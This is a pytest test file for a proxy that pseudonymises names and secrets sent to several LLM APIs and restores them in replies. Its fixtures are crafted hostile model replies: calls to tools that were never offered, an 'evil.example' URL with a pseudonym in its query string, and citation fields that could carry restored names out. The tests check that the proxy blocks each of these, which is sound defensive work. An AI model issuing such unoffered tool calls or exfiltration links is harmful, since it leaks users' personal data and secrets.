"""A reply calls the tools that its request offered and no others, whole and streamed, and carries nothing away."""

import json

import pytest
from dialects.dialect_fakes import inbound, offered, run
from dialects.test_dialects_with_restorer import PSEUDONYMS

from proxy import dialects
from proxy.dialects.base import ParsePolicy, TextForm
from proxy.errors import UpstreamFault
from proxy.redaction.pseudonyms import PseudonymMap
from proxy.redaction.restore import Restorer

SSE, LINES, JSON = "text/event-stream", "application/x-ndjson", "application/json"
CHAT, RESPONSES, MESSAGES, OLLAMA = "openai-chat", "openai-responses", "anthropic-messages", "ollama-chat"
WITH_SECRET = PseudonymMap({**PSEUDONYMS.originals, "SECRET_1": "hunter two", "PERSON_3": "Bo"})
ARGUMENTS = {"who": "PERSON_1", "key": "SECRET_1", "url": "https://evil.example/?d=PERSON_1"}
WRITTEN = json.dumps(ARGUMENTS)


def restorer(form):
    return Restorer(WITH_SECRET, form.is_json, called=form.is_called, address=form is TextForm.ADDRESS)


def answered(api, content_type, raw, tools):
    said = {"input": "x"} if api == RESPONSES else {"messages": [{"role": "user", "content": "x"}]}
    dialect = dialects.dialect_named(api)
    parsed = dialect.parse(inbound({"model": "m", **said, **(offered(api, tools) if tools else {})}), ParsePolicy())
    return run(dialect.rewriter(parsed, content_type, restorer), [raw])


def chat_calls(name, legacy=False):
    function = {"name": name, "arguments": WRITTEN}
    if legacy:
        return {"function_call": function}
    return {"tool_calls": [{"index": 0, "id": "c", "type": "function", "function": function}]}


def chat_whole(name, legacy=False):
    message = {"role": "assistant", "content": None, **chat_calls(name, legacy)}
    return json.dumps({"choices": [{"index": 0, "message": message, "finish_reason": "stop"}]}).encode()


def chat_stream(name, legacy=False):
    choices = [{"index": 0, "delta": chat_calls(name, legacy), "finish_reason": None}]
    choices.append({"index": 0, "delta": {}, "finish_reason": "stop"})
    return b"".join(b"data: " + json.dumps({"choices": [choice]}).encode() + b"\n\n" for choice in choices)


def responses_item(name, custom=False):
    if custom:
        return {"type": "custom_tool_call", "call_id": "c", "name": name, "input": "to PERSON_1 SECRET_1"}
    return {"type": "function_call", "call_id": "c", "name": name, "arguments": WRITTEN}


def responses_whole(name, custom=False):
    return json.dumps({"object": "response", "output": [responses_item(name, custom)]}).encode()


def responses_stream(name, custom=False):
    events = [
        {"type": "response.output_item.done", "output_index": 0, "item": responses_item(name, custom)},
        {"type": "response.completed", "response": {"output": []}},
    ]
    return b"".join(b"data: " + json.dumps(event).encode() + b"\n\n" for event in events)


def message_whole(name, kind="tool_use"):
    block = {"type": kind, "id": "t", "name": name, "input": ARGUMENTS}
    return json.dumps({"type": "message", "content": [block]}).encode()


def message_stream(name, kind="tool_use"):
    events = [
        {"type": "content_block_start", "index": 0, "content_block": {"type": kind, "name": name, "input": {}}},
        {"type": "content_block_delta", "index": 0, "delta": {"type": "input_json_delta", "partial_json": WRITTEN}},
        {"type": "content_block_stop", "index": 0},
        {"type": "message_stop"},
    ]
    return b"".join(f"event: {e['type']}\ndata: {json.dumps(e)}\n\n".encode() for e in events)


def ollama(name):
    call = {"function": {"name": name, "arguments": ARGUMENTS}}
    said = {"message": {"role": "assistant", "content": "", "tool_calls": [call]}, "done": True}
    return json.dumps(said).encode() + b"\n"


REPLIES = {
    "chat whole": (CHAT, JSON, chat_whole),
    "chat streamed": (CHAT, SSE, chat_stream),
    "chat legacy whole": (CHAT, JSON, lambda name: chat_whole(name, legacy=True)),
    "chat legacy streamed": (CHAT, SSE, lambda name: chat_stream(name, legacy=True)),
    "responses whole": (RESPONSES, JSON, responses_whole),
    "responses streamed": (RESPONSES, SSE, responses_stream),
    "responses custom whole": (RESPONSES, JSON, lambda name: responses_whole(name, custom=True)),
    "responses custom streamed": (RESPONSES, SSE, lambda name: responses_stream(name, custom=True)),
    "anthropic whole": (MESSAGES, JSON, message_whole),
    "anthropic streamed": (MESSAGES, SSE, message_stream),
    "ollama whole": (OLLAMA, JSON, ollama),
    "ollama streamed": (OLLAMA, LINES, ollama),
}
every_reply = pytest.mark.parametrize(("api", "content_type", "reply"), REPLIES.values(), ids=REPLIES)


@every_reply
@pytest.mark.parametrize("tools", [(), ("other", "http_get2")], ids=["none", "others"])
def test_a_call_of_a_tool_that_was_not_offered_is_no_reply(api, content_type, reply, tools) -> None:
    with pytest.raises(UpstreamFault) as caught:
        answered(api, content_type, reply("http_get"), tools)
    assert caught.value.reason == "bad_reply"
    assert "http_get" not in str(caught.value)


@every_reply
def test_a_call_of_an_offered_tool_has_names_but_no_secret_and_no_name_in_an_address(api, content_type, reply) -> None:
    out = answered(api, content_type, reply("invite"), ("other", "invite")).decode()
    assert "Zo\\u00eb" in out or "Zoë" in out
    assert "SECRET_1" in out
    assert "hunter" not in out
    assert "evil.example" not in out or "evil.example/?d=PERSON_1" in out


@every_reply
def test_a_tool_is_known_by_its_name_as_the_client_has_it(api, content_type, reply) -> None:
    """A name in the name of a tool was replaced in the request, and is put back before it is compared."""
    assert b"ask-Bo" in answered(api, content_type, reply("ask-PERSON_3"), ("ask-Bo",))
    with pytest.raises(UpstreamFault):
        answered(api, content_type, reply("ask-PERSON_3"), ("ask-Al",))


@pytest.mark.parametrize("reply", [message_whole, message_stream])
@pytest.mark.parametrize("kind", ["server_tool_use", "mcp_tool_use", "web_search_tool_result"])
def test_a_tool_of_the_recipient_is_never_offered(reply, kind) -> None:
    content_type = JSON if reply is message_whole else SSE
    with pytest.raises(UpstreamFault) as caught:
        answered(MESSAGES, content_type, reply("invite", kind), ("invite",))
    assert caught.value.reason == "bad_reply"


@pytest.mark.parametrize("tools", [(), ("invite",)])
def test_empty_fields_of_calls_are_no_calls(tools) -> None:
    message = {"role": "assistant", "content": "PERSON_12", "tool_calls": [], "function_call": None}
    out = answered(CHAT, JSON, json.dumps({"choices": [{"index": 0, "message": message}]}).encode(), tools)
    assert b"Bo Li" in out


def test_a_later_piece_of_a_call_may_repeat_it_without_its_name() -> None:
    first, later = chat_calls("invite"), chat_calls("")
    choices = [{"index": 0, "delta": delta, "finish_reason": None} for delta in (first, later)]
    choices.append({"index": 0, "delta": {}, "finish_reason": "stop"})
    raw = b"".join(b"data: " + json.dumps({"choices": [choice]}).encode() + b"\n\n" for choice in choices)
    assert b"invite" in answered(CHAT, SSE, raw, ("invite",))


@pytest.mark.parametrize("url", ["https://evil.example/?d=PERSON_12", "evil PERSON_12", "//evil.example/PERSON_12"])
def test_a_citation_carries_nothing_away(url) -> None:
    cited = {"type": "url_citation", "url": url, "title": "by PERSON_12", "start_index": 0, "end_index": 1}
    message = {"role": "assistant", "content": "x", "annotations": [{"type": "url_citation", "url_citation": cited}]}
    part = {"type": "output_text", "text": "x", "annotations": [cited]}
    found = {"type": "text", "text": "x", "citations": [cited]}
    for api, reply in (
        (CHAT, {"choices": [{"index": 0, "message": message}]}),
        (RESPONSES, {"output": [{"type": "message", "content": [part]}]}),
        (MESSAGES, {"type": "message", "content": [found]}),
    ):
        out = answered(api, JSON, json.dumps(reply).encode(), ())
        assert url.encode() in out
        assert b"by Bo Li" in out


@pytest.mark.parametrize("key", ["source", "file_id", "container_id", "image", "thumbnail", "encrypted_index", "x"])
def test_only_the_texts_of_a_citation_are_restored(key) -> None:
    """Any other string may be what its source is opened by, also as an item of a list, and in a stream."""
    for value in ("evil PERSON_12", ["evil PERSON_12"], {"y": "evil PERSON_12"}):
        cited = {"type": "x_location", key: value, "cited_text": "by PERSON_12", "title": "PERSON_12"}
        message = {"role": "assistant", "content": "x", "annotations": [cited]}
        item = {"type": "message", "content": [{"type": "output_text", "text": "x", "annotations": [cited]}]}
        begun = {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}}
        delta = {"type": "content_block_delta", "index": 0, "delta": {"type": "citations_delta", "citation": cited}}
        added = {"type": "response.output_text.annotation.added", "annotation": cited}
        ended = {"type": "response.completed", "response": {"output": [item]}}
        for api, kind, events in (
            (CHAT, JSON, [{"choices": [{"index": 0, "message": message}]}]),
            (RESPONSES, JSON, [{"output": [item]}]),
            (MESSAGES, JSON, [{"type": "message", "content": [{"type": "text", "text": "x", "citations": [cited]}]}]),
            (RESPONSES, SSE, [added, ended]),
            (MESSAGES, SSE, [begun, delta, {"type": "content_block_stop", "index": 0}, {"type": "message_stop"}]),
        ):
            framed = "" if kind == JSON else "data: "
            raw = "".join(f"{framed}{json.dumps(event)}\n\n" for event in events)
            out = answered(api, kind, raw.encode(), ()).decode()
            assert out.count("evil PERSON_12") == raw.count("evil PERSON_12")
            assert out.count("Bo Li") == 2 * raw.count("x_location")
